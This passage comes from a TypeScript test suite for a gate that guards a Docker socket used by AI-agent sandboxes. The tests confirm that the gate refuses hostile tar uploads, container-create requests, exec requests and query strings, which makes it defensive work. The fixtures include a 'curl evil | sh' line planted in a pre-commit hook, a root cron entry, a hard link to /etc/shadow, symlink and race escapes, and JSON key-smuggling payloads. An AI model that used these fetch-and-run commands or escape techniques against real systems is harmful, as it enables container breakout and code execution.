  }

  type Entry = Partial<tar.Header> & { name: string; data?: Buffer };
  async function tarOf(entries: Entry[]): Promise<Buffer> {
    const pack = tar.pack();
    const chunks: Buffer[] = [];
    pack.on('data', (c: unknown) => void chunks.push(c as Buffer));
    const done = new Promise<void>((r) => pack.on('end', () => r()));
    for (const { data, ...h } of entries) pack.entry(h, data ?? Buffer.alloc(0));
    pack.finalize();
    await done;
    return Buffer.concat(chunks);
  }
  /** An entry owned the way protected-restore.ts writes it: ustar 0, the agent's uid in PAX records. */
  const mine = (h: Entry): Entry => ({ uid: 0, gid: 0, ...h, pax: { uid: String(agent), gid: String(agent), ...(h.pax ?? {}) } });
  const file = (name: string, text: string, extra: Partial<Entry> = {}): Entry => mine({ name, type: 'file', mode: 0o644, size: Buffer.byteLength(text), data: Buffer.from(text), ...extra });

  test('the restore protected-restore.ts makes passes: files back with the agent as owner and their modes; the engine gets the gate\'s own tar', async () => {
    const before: ProtectedState = {
      entries: new Map([
        ['AGENTS.md', { type: 'file', mode: 0o644, size: 9, data: Buffer.from('be good.\n') }],
        ['.github/workflows/ci.yml', { type: 'file', mode: 0o755, size: 6, data: Buffer.from('on: x\n') }],
        ['CLAUDE.md', { type: 'symlink', mode: 0o777, size: 0, link: 'AGENTS.md' }],
      ]),
      dirs: new Map([['.github', 0o2775], ['.github/workflows', 0o755]]), mode: 'full', notes: [], bytes: 0, requests: 0, ms: 0,
    };
    const plan = await restorePlan(before, ['AGENTS.md', '.github/workflows/ci.yml', 'CLAUDE.md', 'gone.txt'], agent, agent);
    expect(plan.remove).toEqual(['gone.txt']);
    await inSandbox('echo x > /workspace/gone.txt; echo changed > /workspace/AGENTS.md');
    // the guard removes what did not exist before with rm run as the agent: allowed, as every exec as the recorded uid
    expect(await inSandbox('rm -rf -- /workspace/gone.txt && echo removed')).toContain('removed');
    rec.clear();
    const r = await putTar(id, plan.tar!);
    expect(r.status).toBe(200);
    expect(rec.seen()).toMatch(/PUT \/containers\/[0-9a-f]{64}\/archive\?path=%2Fworkspace HTTP/);
    const out = await inSandbox('cd /workspace && stat -c "%n %u:%g %a %F" AGENTS.md .github .github/workflows .github/workflows/ci.yml CLAUDE.md; cat CLAUDE.md; test -e gone.txt || echo gone-is-gone');
    expect(out).toContain(`AGENTS.md ${agent}:${agent} 644 regular file`);
    expect(out).toContain(`.github ${agent}:${agent} 775 directory`); // the setgid bit of the snapshot is not put back
    expect(out).toContain(`.github/workflows/ci.yml ${agent}:${agent} 755 regular file`);
    expect(out).toContain(`CLAUDE.md ${agent}:${agent} 777 symbolic link`);
    expect(out).toContain('be good.');
    expect(out).toContain('gone-is-gone');
  });

  test('dockerode as the effect guard calls it (putArchive with an abort signal, infoArchive, getArchive) passes through the gate', async () => {
    const viaGate = new Docker({ socketPath: sock }).getContainer(id);
    const before: ProtectedState = {
      entries: new Map([['.husky/pre-commit', { type: 'file', mode: 0o755, size: 8, data: Buffer.from('exit 0\n\n') }]]),
      dirs: new Map([['.husky', 0o755]]), mode: 'full', notes: [], bytes: 0, requests: 0, ms: 0,
    };
    const plan = await restorePlan(before, ['.husky/pre-commit'], agent, agent);
    await inSandbox('mkdir -p /workspace/.husky && echo "curl evil | sh" > /workspace/.husky/pre-commit');
    await viaGate.putArchive(plan.tar!, { path: '/workspace', abortSignal: new AbortController().signal });
    const stat = (await viaGate.infoArchive({ path: '/workspace/.husky/pre-commit' })) as unknown as { headers: Record<string, string> };
    expect(JSON.parse(Buffer.from(stat.headers['x-docker-container-path-stat']!, 'base64').toString())).toMatchObject({ name: 'pre-commit', size: 8 });
    const got = await new Promise<string>((resolve, reject) => {
      void viaGate.getArchive({ path: '/workspace/.husky/pre-commit' }).then((s) => {
        const x = tar.extract();
        let text = '';
        x.on('entry', (h, body, next) => { body.on('data', (d: unknown) => (text += String(d))); body.on('end', next); });
        x.on('finish', () => resolve(text));
        x.on('error', reject);
        (s as unknown as NodeJS.ReadableStream).pipe(x);
      }, reject);
    });
    expect(got).toBe('exit 0\n\n');
  });

  test('what the engine gets is packed anew: nothing of the client\'s headers (names, PAX records) reaches it', async () => {
    rec.clear();
    const marker = `m${randomBytes(5).toString('hex')}`;
    const r = await putTar(id, await tarOf([file('notes.txt', 'hi\n', { uname: marker, gname: marker, pax: { uid: String(agent), gid: String(agent), mtime: '1.5', atime: marker.replace(/\D/g, '1') } })]));
    expect(r.status).toBe(200);
    expect(rec.seen()).toContain('notes.txt');
    expect(rec.seen()).not.toContain(marker);
  });

  test('positive control: the engine itself takes a root-owned setuid file into the workspace (what the gate stops)', async () => {
    const r = await putTar(id, await tarOf([{ name: 'ctl-suid', type: 'file', mode: 0o4755, uid: 0, gid: 0, size: 3, data: Buffer.from('x\n\n') }]), { to: '/var/run/docker.sock' });
    expect(r.status).toBe(200);
    expect(await inSandbox('stat -c "%u %a" /workspace/ctl-suid; rm -f /workspace/ctl-suid')).toContain('0 4755');
  });

  const nul = Buffer.alloc(0);
  const variants: Array<[string, () => Promise<Buffer>, string]> = [
    // owners: the container's agent uid only, in every place a tar can say it
    ['an entry owned by root (ustar, no PAX)', () => tarOf([{ name: 'a.txt', type: 'file', mode: 0o644, uid: 0, gid: 0, size: 1, data: Buffer.from('x') }]), 'owned by uid 0'],
    ['an entry owned by root in its PAX record', () => tarOf([file('a.txt', 'x', { pax: { uid: '0', gid: String(agent) } })]), 'owned by uid 0'],
    ['an entry whose PAX gid is root\'s', () => tarOf([file('a.txt', 'x', { pax: { uid: String(agent), gid: '0' } })]), 'owned by gid 0'],
    ['an entry owned by another slot\'s agent', () => tarOf([file('a.txt', 'x', { pax: { uid: String(slot(4).agentUid), gid: String(slot(4).agentUid) } })]), 'owned by uid'],
    ['a PAX uid spelled "+uid"', () => tarOf([file('a.txt', 'x', { pax: { uid: `+${agent}`, gid: String(agent) } })]), 'owned by uid +'],
    ['a PAX uid spelled " uid"', () => tarOf([file('a.txt', 'x', { pax: { uid: ` ${agent}`, gid: String(agent) } })]), 'owned by uid '],
    ['a PAX uid spelled "uid.0"', () => tarOf([file('a.txt', 'x', { pax: { uid: `${agent}.0`, gid: String(agent) } })]), '.0: entries must belong'],
    ['a PAX uid past 2^32 (agent + 2^32)', () => tarOf([file('a.txt', 'x', { pax: { uid: String(2 ** 32 + agent), gid: String(agent) } })]), 'owned by uid 4'],
    ['a directory owned by root before a good file', () => tarOf([{ name: 'd/', type: 'directory', mode: 0o755, uid: 0, gid: 0 }, file('d/a.txt', 'x')]), '"d/" is owned by uid 0'],
    // modes
    ['a setuid file', () => tarOf([file('a.sh', '#!/bin/sh\n', { mode: 0o4755 })]), 'mode 04755'],
    ['a setgid file', () => tarOf([file('a.sh', '#!/bin/sh\n', { mode: 0o2755 })]), 'mode 02755'],
    ['a setgid directory', () => tarOf([mine({ name: 'd/', type: 'directory', mode: 0o2775 })]), 'mode 02775'],
    ['a setuid+setgid+sticky file', () => tarOf([file('a.sh', '#!/bin/sh\n', { mode: 0o7777 })]), 'mode 07777'],
    // types
    ['a hard link', () => tarOf([file('a.txt', 'x'), mine({ name: 'b.txt', type: 'link', linkname: 'a.txt' })]), 'is a hard link'],
    ['a hard link to a path outside', () => tarOf([mine({ name: 'shadow', type: 'link', linkname: '/etc/shadow' })]), 'is a hard link'],
    ['a character device (/dev/mem)', () => tarOf([mine({ name: 'mem', type: 'character-device', mode: 0o666, devmajor: 1, devminor: 1 })]), 'is a character-device'],
    ['a block device', () => tarOf([mine({ name: 'sda', type: 'block-device', mode: 0o666, devmajor: 8, devminor: 0 })]), 'is a block-device'],
    ['a FIFO', () => tarOf([mine({ name: 'pipe', type: 'fifo', mode: 0o666 })]), 'is a fifo'],
    ['a contiguous file', () => tarOf([mine({ name: 'c.txt', type: 'contiguous-file', mode: 0o644, size: 1, data: Buffer.from('x') })]), 'is a contiguous-file'],
    // names
    ['an absolute name', () => tarOf([file('/etc/cron.d/x', '* * * * * root id\n')]), 'an absolute name'],
    ['a ".." name', () => tarOf([file('../escape.txt', 'x')]), 'segment'],
    ['a name climbing out half-way', () => tarOf([file('a/../../escape.txt', 'x')]), 'segment'],
    ['a "./" segment', () => tarOf([file('./a.txt', 'x')]), 'segment'],
    ['an empty segment', () => tarOf([file('a//b.txt', 'x')]), 'segment'],
    ['the workspace itself (chmod 0777 of /workspace)', () => tarOf([mine({ name: './', type: 'directory', mode: 0o777 })]), 'segment'],
    ['a name given twice', () => tarOf([file('a.txt', 'x'), file('a.txt', 'y')]), 'named twice'],
    // links
    ['a link to an absolute path', () => tarOf([mine({ name: 'etc', type: 'symlink', linkname: '/etc' })]), 'absolute path /etc'],
    ['a link climbing out', () => tarOf([mine({ name: 'up', type: 'symlink', linkname: '../..' })]), 'outside the workspace'],
    ['a link and then a file written through it', () => tarOf([mine({ name: 'lnk', type: 'symlink', linkname: 'sub' }), file('lnk/x.txt', 'x')]), 'goes through the symbolic link'],
    // parents: each one an entry before what is beneath it (so the engine replaces a link the sandbox holds there)
    ['a file whose parent has no entry', () => tarOf([file('a.txt', 'x'), file('sub/a.sh', 'x')]), 'without a directory entry for its parent "sub/"'],
    ['a file before its parent\'s entry', () => tarOf([file('sub/a.sh', 'x'), mine({ name: 'sub/', type: 'directory', mode: 0o755 })]), 'without a directory entry for its parent "sub/"'],
    ['a file two levels down with only its grandparent named', () => tarOf([mine({ name: 'sub/', type: 'directory', mode: 0o755 }), file('sub/deeper/a.sh', 'x')]), 'parent "sub/deeper/"'],
    // PAX records beyond the entry's own fields
    ['a file capability (SCHILY.xattr.security.capability)', () => tarOf([file('cap', 'x', { pax: { uid: String(agent), gid: String(agent), 'SCHILY.xattr.security.capability': 'AQAAAgAgAAAAAAAAAAAAAAAAAAA=' } })]), 'SCHILY.xattr.security.capability'],
    ['a user xattr', () => tarOf([file('x', 'x', { pax: { uid: String(agent), gid: String(agent), 'SCHILY.xattr.user.k': 'v' } })]), 'SCHILY.xattr.user.k'],
    ['a sparse-file record', () => tarOf([file('x', 'x', { pax: { uid: String(agent), gid: String(agent), 'GNU.sparse.map': '0,1' } })]), 'GNU.sparse.map'],
    // not a plain tar
    ['a gzip-compressed tar', async () => gzipSync(await tarOf([file('a.txt', 'x')])), 'not an uncompressed tar'],
    ['bytes that are no tar', () => Promise.resolve(randomBytes(4096)), 'not an uncompressed tar'],
    ['an empty body', () => Promise.resolve(nul), 'holds no entry'],
    ['more entries than the gate takes', () => tarOf(Array.from({ length: ARCHIVE_PUT_LIMITS.maxEntries + 1 }, (_, i) => file(`f${i}`, ''))), 'more than 10000 entries'],
  ];
  test.each(variants)('%s → archive-put; the engine never sees the upload', async (_n, make, why) => {
    const body = await make();
    rec.clear();
    const r = await putTar(id, body);
    refusedBy(r, 'archive-put');
    expect(JSON.parse(r.body)).toEqual({ message: expect.stringContaining(why) });
    expect(rec.seen()).not.toContain('/archive');
    // and nothing of it landed: every name the variants use is absent
    expect(await inSandbox('cd /workspace && ls -A a.txt b.txt a.sh d mem sda pipe c.txt etc up lnk cap x f0 shadow 2>/dev/null; ls -ld /workspace | cut -c1-10')).not.toMatch(/\b(a\.txt|a\.sh|mem|sda|pipe|lnk|cap|f0|shadow)\b|drwxrwxrwx/);
  });

  test('links the sandbox holds: the engine itself writes through one into the read-only root; through the gate the tar\'s directory entries replace it', async () => {
    await inSandbox('cd /workspace && ln -s /etc held-etc && ln -s /usr/bin held-bin && mkdir -p real/x && ln -s /etc real/x/deep');
    // positive control: straight to the engine, a file beneath the link lands in /etc of the read-only root
    const ctl = await putTar(id, await tarOf([file('held-etc/ctl-through-link', 'x')]), { to: '/var/run/docker.sock' });
    expect(ctl.status).toBe(200);
    expect(await inSandbox('ls /etc/ctl-through-link')).toContain('/etc/ctl-through-link');
    // through the gate: without the parent's entry, refused; the engine never sees it
    rec.clear();
    refusedBy(await putTar(id, await tarOf([file('held-etc/evil', 'x')])), 'archive-put');
    refusedBy(await putTar(id, await tarOf([mine({ name: 'real/', type: 'directory', mode: 0o755 }), mine({ name: 'real/x/', type: 'directory', mode: 0o755 }), file('real/x/deep/evil', 'x')])), 'archive-put');
    expect(rec.seen()).not.toContain('/archive');
    // with the parents named, the engine replaces each link with a real directory before writing beneath it
    const dir = (name: string) => mine({ name, type: 'directory', mode: 0o755 });
    const r = await putTar(id, await tarOf([dir('held-etc/'), file('held-etc/evil', 'x'), dir('held-bin/'), file('held-bin/evil', 'x'), dir('real/'), dir('real/x/'), dir('real/x/deep/'), file('real/x/deep/evil', 'x')]));
    expect(r.status).toBe(200);
    const out = await inSandbox('ls /etc/evil /usr/bin/evil 2>&1; cd /workspace && stat -c "%n %F %u" held-etc held-bin real/x/deep held-etc/evil real/x/deep/evil');
    expect(out).toMatch(/'\/etc\/evil': No such file[\s\S]*'\/usr\/bin\/evil': No such file/);
    for (const d of ['held-etc', 'held-bin', 'real/x/deep']) expect(out).toContain(`${d} directory ${agent}`);
    expect(out).toContain(`held-etc/evil regular file ${agent}`);
    expect((await engine.getContainer(id).inspect()).State).toMatchObject({ Running: true, Paused: false });
  });

  test('a process in the sandbox swapping a link in while uploads run: the sandbox is paused for each, nothing lands outside', async () => {
    // the race: rename the directory away and put a link to /etc in its place, as fast as it can
    await inSandbox('cd /workspace && nohup sh -c \'while :; do mv race gone-$$ 2>/dev/null; rm -rf gone-$$; ln -s /etc race 2>/dev/null; done\' >/dev/null 2>&1 &');
    await eventually(async () => (await inSandbox('test -L /workspace/race && echo is-link')).includes('is-link') || undefined, { what: 'the racing process to plant its link' });
    const dir = mine({ name: 'race/', type: 'directory', mode: 0o755 });
    rec.clear();
    const N = 25;
    for (let i = 0; i < N; i++) {
      const r = await putTar(id, await tarOf([dir, file(`race/raced-${i}`, 'x')]));
      expect(r.status).toBe(200);
    }
    expect((await engine.getContainer(id).inspect()).State).toMatchObject({ Running: true, Paused: false });
    const out = await inSandbox('echo "in-etc=$(ls /etc | grep -c raced-)"; pkill -f "mv rac[e] gone"; echo done');
    expect(out).toContain('in-etc=0');
    // what the engine was asked, in order: each upload between a pause and an unpause of the sandbox
    // (the engine's event stream drops events for a slow reader, so the recorder is the record)
    const asked = [...rec.seen().matchAll(new RegExp(`(POST|PUT) (?:/v[0-9.]+)?/containers/${id}/(pause|unpause|archive)`, 'g'))].map((m) => m[2]);
    expect(asked).toEqual(Array.from({ length: N }, () => ['pause', 'archive', 'unpause']).flat());
  });

  test('a sandbox that is not running gets no upload (it could not be paused)', async () => {
    const c = await request('POST', `/containers/create?name=${slot(6).name}`, JSON.stringify(bodyOf(spec(6))));
    expect(c.status).toBe(201);
    const cid = (JSON.parse(c.body) as { Id: string }).Id;
    rec.clear();
    const theirs = slot(6).agentUid;
    const own = await tarOf([{ name: 'a.txt', type: 'file', mode: 0o644, uid: 0, gid: 0, size: 1, data: Buffer.from('x'), pax: { uid: String(theirs), gid: String(theirs) } }]);
    const r = await putTar(cid, own);
    refusedBy(r, 'archive-put');
    expect(r.body).toContain('only into a running sandbox');
    expect(rec.seen()).not.toMatch(/PUT \/containers\/[0-9a-f]+\/archive/);
    expect((await request('DELETE', `/containers/${cid}?force=1`)).status).toBe(204);
  });

  test('an upload over the size cap is refused with 403 before it is read to the end, and the connection is closed', async () => {
    rec.clear();
    const big = await tarOf([file('big.bin', 'x'.repeat(ARCHIVE_PUT_LIMITS.maxBytes + 1))]);
    refusedBy(await putTar(id, big), 'archive-put');
    expect(rec.seen()).not.toContain('/archive');
  });

  test('where and how: only path=/workspace, as a tar, into this deployment\'s runc sandbox', async () => {
    const good = await tarOf([file('a.txt', 'x')]);
    rec.clear();
    for (const q of ['path=%2Fworkspace%2Fsub', 'path=%2F', 'path=%2Ftmp', 'path=%2Fhome%2Fagent', 'path=%2Fworkspace%2F', 'path=%2Fworkspace%2F..%2Fetc', 'path=%2Fetc',
      'path=%2Fworkspace&path=%2Fetc', 'Path=%2Fworkspace', 'path=%2Fworkspace&copyUIDGID=1', 'path=%2Fworkspace&noOverwriteDirNonDir=1&NoOverwriteDirNonDir=0', '']) {
      refusedBy(await putTar(id, good, { query: q }), 'query');
    }
    for (const type of ['application/json', 'application/gzip', 'text/plain', '']) refusedBy(await putTar(id, good, { type }), 'archive-put');
    refusedBy(await putTar(id, good, { headers: { 'Content-Encoding': 'gzip' } }), 'archive-put');
    expect(rec.seen()).not.toContain('/archive');
    // a gVisor sandbox (its workspace is a tmpfs in its own kernel), created but never started
    const g = await request('POST', `/containers/create?name=${slot(5).name}`, JSON.stringify(bodyOf(spec(5, 'gvisor'))));
    expect(g.status).toBe(201);
    const gid = (JSON.parse(g.body) as { Id: string }).Id;
    refusedBy(await putTar(gid, good), 'archive-put');
    expect((await request('DELETE', `/containers/${gid}?force=1`)).status).toBe(204);
    // a container that is not this deployment's
    const c = await engine.createContainer({ Image: image, Cmd: ['sleep', '60'], Labels: { [TEST_LABEL]: tag, corral: '1', 'corral.queue': QUEUE, 'corral.uid': String(agent) } });
    refusedBy(await putTar(c.id, good), 'container-not-ours');
    await c.remove({ force: true });
    expect(rec.seen()).not.toContain('/archive');
    // and the same upload, well placed, passes
    expect((await putTar(id, good, { query: 'path=%2Fworkspace&noOverwriteDirNonDir=1' })).status).toBe(200);
  });
});

describe('second pass: spellings the table above does not make (escaped keys, map keys, whole objects twice, encoded query keys)', () => {
  const S = 0;
  let id: string;
  let agent: number;
  const createText = () => JSON.stringify(bodyOf(spec(S)));
  /** `text` with `insert` written right after the first `"key":{` (so it opens that object). */
  const after = (text: string, key: string, insert: string) => {
    const at = text.indexOf(`"${key}":{`);
    expect(at).toBeGreaterThanOrEqual(0);
    const i = at + key.length + 4;
    return `${text.slice(0, i)}${insert}${text.slice(i)}`;
  };
  /** `text` with `insert` written just before the `}` that closes the first `"key":{…}`. */
  const closing = (text: string, key: string, insert: string) => {
    const at = text.indexOf(`"${key}":{`);
    expect(at).toBeGreaterThanOrEqual(0);
    let end = at + key.length + 3;
    for (let depth = 0, str = false; end < text.length; end++) {
      const c = text[end];
      if (str) {
        if (c === '\\') end++;
        else if (c === '"') str = false;
      } else if (c === '"') str = true;
      else if (c === '{') depth++;
      else if (c === '}' && --depth === 0) break;
    }
    return `${text.slice(0, end)}${insert}${text.slice(end)}`;
  };
  beforeAll(async () => {
    agent = slot(S).agentUid;
    rec.clear();
    // create bodies: a JSON escape spells the same key to both parsers; a map key repeated; an object repeated
    const create = (t: string) => request('POST', `/containers/create?name=${slot(S).name}`, t);
    const attempts = [
      after(createText(), 'HostConfig', '"\\u004eetworkMode":"bridge",'), // "NetworkMode" escaped, before the checked one
      closing(createText(), 'HostConfig', ',"\\u006eetworkMode":"bridge"'), // "networkMode" escaped, after it
      closing(createText(), 'HostConfig', ',"Readonly\\u0052ootfs":false'),
      closing(createText(), 'HostConfig', ',"Pids\\u004cimit":0'),
      closing(createText(), 'Labels', ',"corral.queue":"someone-else"'), // a label key repeated verbatim (a map: the last wins)
      closing(createText(), 'Labels', ',"corral.\\u0071ueue":"someone-else"'),
      closing(createText(), 'Options', ',"o":"size=8m,uid=0"'), // the workspace volume's driver options: o twice
      closing(createText(), 'Options', ',"devic\\u0065":"/"'),
      `${createText().slice(0, -1)},"HostConfig":{"NetworkMode":"bridge","Privileged":true}}`, // the whole HostConfig again, last
      `{"HostConfig":{"NetworkMode":"bridge","Privileged":true},${createText().slice(1)}`, // and first
    ];
    for (const [i, t] of attempts.entries()) {
      const r = await create(t);
      expect({ i, status: r.status, body: r.body }).toEqual({ i, status: 403, body: expect.stringMatching(/rule (duplicate-field|workspace-volume)\)/) });
    }
    expect(rec.seen()).not.toContain('/containers/create');
    const ok = await create(createText());
    expect(ok.status).toBe(201);
    id = (JSON.parse(ok.body) as { Id: string }).Id;
    expect((await request('POST', `/containers/${id}/start`)).status).toBe(204);
  });

  test('exec: an escaped or Unicode-escaped second User, a NUL-suffixed key, the same key twice verbatim → refused; never at the engine', async () => {
    const good = JSON.stringify({ Cmd: ['id', '-u'], User: `${agent}:${agent}`, AttachStdout: true, AttachStderr: true, Privileged: false });
    rec.clear();
    for (const t of [
      good.replace('{', '{"\\u0055ser":"0:0",'), `${good.slice(0, -1)},"\\u0055ser":"0:0"}`, `${good.slice(0, -1)},"\\u0075ser":"0:0"}`,
      `${good.slice(0, -1)},"U\\u017fer":"0:0"}`, `${good.slice(0, -1)},"User":"0:0"}`, `${good.slice(0, -1)},"User\\u0000":"0:0"}`,
      `${good.slice(0, -1)},"Privileg\\u0065d":true}`, `${good.slice(0, -1)},"privileged":true,"Privileged":false}`,
    ]) {
      const r = await request('POST', `/containers/${id}/exec`, t);
      expect({ status: r.status, body: r.body }).toEqual({ status: 403, body: expect.stringMatching(/rule (duplicate-field|unknown-field)\)/) });
    }
    expect(rec.seen()).not.toContain('/exec');
    // the same exec, once, runs as the slot's agent
    const e = await request('POST', `/containers/${id}/exec`, good);
    const out = await request('POST', `/exec/${(JSON.parse(e.body) as { Id: string }).Id}/start`, JSON.stringify({ Detach: false, Tty: false }));
    expect(out.body).toContain(String(agent));
  });

  test('query keys percent-encoded, a ";" separator, an encoded "&": each refused, or read by the gate as the engine reads it', async () => {
    rec.clear();
    for (const q of ['path=%2Fworkspace&p%61th=%2Fetc', 'p%61th=%2Fetc', 'path=%2Fworkspace;path=%2Fetc', 'path=%2Fworkspace%26path%3D%2Fetc', 'path=%2Fworkspace%00', 'path=%2Fworkspace&path', '%70ath=%2Fworkspace&path=%2Fetc']) {
      const r = await request('GET', `/containers/${id}/archive?${q}`);
      expect({ q, status: r.status }).toEqual({ q, status: 403 });
    }
    refusedBy(await request('DELETE', `/containers/${id}?force=1&v%3D0`), 'query');
    refusedBy(await request('POST', `/containers/${id}/kill?sign%61l=KILL&signal=HUP`), 'query');
    expect(rec.seen()).not.toMatch(/archive|\/kill|DELETE/);
    // a lone encoded key is the key itself, as to the engine
    const ok = await request('GET', `/containers/${id}/archive?p%61th=%2Fworkspace`);
    expect(ok.status).toBe(200);
  });
});

test('every refusal above was logged with its rule', () => {
  const rules = new Set(logs.filter((l) => l.msg === 'docker-gate refused').map((l) => l.rule));
  for (const r of ['duplicate-field', 'unknown-field', 'create-body', 'exec-user', 'query', 'api-version', 'body-not-allowed', 'binds-egress-only', 'egress-root', 'sandbox-user', 'archive-put', 'container-not-ours']) expect(rules).toContain(r);
});
